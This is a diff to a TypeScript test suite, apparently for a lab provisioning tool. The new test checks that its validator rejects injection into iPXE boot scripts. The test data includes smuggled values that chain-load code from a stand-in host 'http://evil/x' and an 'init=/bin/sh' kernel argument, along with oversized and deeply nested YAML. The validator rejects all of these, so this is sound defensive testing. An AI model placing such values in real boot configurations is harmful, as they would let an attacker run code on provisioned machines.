@@ -283,13 +283,51 @@ test('bmc.tls: the CA file is read from the commit; wrong settings and files are
     'bmc-tls hosts/node-4.yaml:11:9: bmc.tls.ca "certs/not-a-cert.pem" holds no PEM certificate (-----BEGIN CERTIFICATE-----)',
     'plaintext-secret hosts/node-5.yaml:11:9: bmc.tls.ca "certs/with-key.pem" holds a private key; a CA file holds certificates only (remove the key from the repository and its history)',
     'schema hosts/node-7.yaml:11:5: bmc.tls: tls needs exactly one of ca, fingerprint or insecure',
-    "schema hosts/node-7.yaml:11:9: bmc.tls.ca: must be a path relative to the lab repository root, without '..' (a PEM file, e.g. certs/asgard-ilo-ca.pem)",
+    "schema hosts/node-7.yaml:11:9: bmc.tls.ca: must be a path relative to the lab repository root, without '..', '.git' or control characters (a PEM file, e.g. certs/asgard-ilo-ca.pem)",
     'schema hosts/node-7.yaml:12:18: bmc.tls.fingerprint: must be a SHA-256 certificate fingerprint: sha256: and 64 hex digits, colons allowed (openssl x509 -noout -fingerprint -sha256)',
     'schema hosts/node-7.yaml:13:15: bmc.tls.insecure: must be true',
   ]);
   // OpenSSL words the parse failure itself.
   const broken = await problemsWith({ 'certs/broken.pem': '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n', 'hosts/node-6.yaml': redfish('node-6', 6, 'ca: certs/broken.pem') });
   ok(broken.length === 1 && broken[0]?.startsWith('bmc-tls hosts/node-6.yaml:11:9: bmc.tls.ca "certs/broken.pem": certificate 1 cannot be read: '), broken.join('\n'));
+});
+
+test('files a commit names stay in the tree; caps and text that would leave its place in a boot script are problems at file:line:col', async () => {
+  const profile = (...boot: string[]): string => lines(...PROFILE_HEAD, 'name: worker', 'boot:', '  image: tiny', ...boot);
+  const image = (kernelUrl: string): string => lines('apiVersion: forseti/v1', 'kind: Image', 'name: tiny', `kernel: {url: '${kernelUrl}', sha256: ${'a'.repeat(64)}}`);
+  await expectProblems({ 'profiles/worker.yaml': profile('  cmdline: "console=ttyS0\\nchain http://evil/x"') }, [
+    'script-injection profiles/worker.yaml:6:12: boot.cmdline: control character U+000A would break the kernel line of the iPXE script (a kernel command line is one line)',
+  ]);
+  await expectProblems({ 'profiles/worker.yaml': profile('  cmdline: console=ttyS0 && chain http://evil/x') }, [
+    'script-injection profiles/worker.yaml:6:26: boot.cmdline: the word "&&" would end the kernel command in the iPXE script (iPXE reads ||, && and ; as command separators and # as a comment)',
+  ]);
+  await expectProblems({ 'images/tiny.yaml': image('http://mirror.lan/vmlinuz%0Achain%20http://evil/x') }, [
+    'script-injection images/tiny.yaml:4:41: kernel.url: "%0A" hides control character U+000A in the URL',
+  ]);
+  await expectProblems({ 'images/tiny.yaml': image('http://mirror.lan/vmlinuz%E0%A4%A') }, [
+    'image-url images/tiny.yaml:4:41: kernel.url: malformed percent-escape "%E0%A4%A" (% must be followed by two hex digits)',
+  ]);
+  await expectProblems({ 'images/tiny.yaml': image('http://mirror.lan/vmlinuz%20init=%2Fbin%2Fsh') }, [
+    'image-url images/tiny.yaml:4:34: kernel.url: the file name this URL is served under ("vmlinuz init=/bin/sh") holds white space; it must be one word of the iPXE kernel line',
+  ]);
+  await expectProblems({ 'hosts/node-2.yaml': lines(...HOST_HEAD, 'name: node-2', 'macs: [aa:bb:cc:00:00:02]', 'ip: 10.9.0.12', 'bmc: {type: wol}', 'role: off', `labels: {a: ${'['.repeat(80)}${']'.repeat(80)}}`) }, [
+    'yaml-limit hosts/node-2.yaml:8:75: nesting deeper than 64 levels (mappings and sequences inside each other); a lab file needs a handful',
+  ]);
+  await expectProblems({ 'hosts/node-2.yaml': `# ${'x'.repeat(1024 * 1024)}\n` }, ['file-too-large hosts/node-2.yaml:1:1: the file is 1.0 MiB, larger than the 1 MiB a lab file may be']);
+  await expectProblems({ 'hosts/node-\n9.yaml': 'x: 1\n' }, [
+    'unsafe-path hosts/node-\\n9.yaml:1:1: this path has a control character in its name; forseti refuses a lab repository holding such a path (rename it)',
+  ]);
+  const dir = mkdtempSync(join(tmpdir(), 'forseti-lab-'));
+  try {
+    cpSync(MINIMAL, dir, { recursive: true });
+    const { problems } = await loadLab(dir, { limits: { maxFileBytes: 1024, maxLabBytes: 500, maxYamlAliases: 100, maxYamlDepth: 64 } });
+    deepStrictEqual(problems.map((p) => `${p.code} ${formatProblem(p)}`), [
+      'lab-too-large hosts/node-2.yaml:1:1: the lab is larger than 500 bytes (the files forseti reads, together); reading hosts/node-2.yaml would go past it',
+    ]);
+    covered.add('lab-too-large');
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
 });
 
 test('every problem code is exercised above', () => {
